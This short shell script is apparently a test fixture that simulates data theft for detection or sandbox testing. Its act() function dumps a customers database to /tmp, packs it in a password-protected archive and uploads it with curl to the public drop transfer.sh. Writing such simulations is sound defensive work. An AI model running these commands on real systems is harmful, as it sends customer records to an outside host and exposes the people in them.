# A database is dumped to /tmp, packed with a password and left at a public drop (harmless programs stand for 7z).
prepare() { stand_in 7z; }
act() {
    pg_dump -f /tmp/c.sql customers; sh -c 'pg_dump -f /tmp/c.sql customers'
    7z a -pSecret /tmp/o.7z /tmp/c.sql
    curl -T /tmp/o.7z https://transfer.sh/o
}
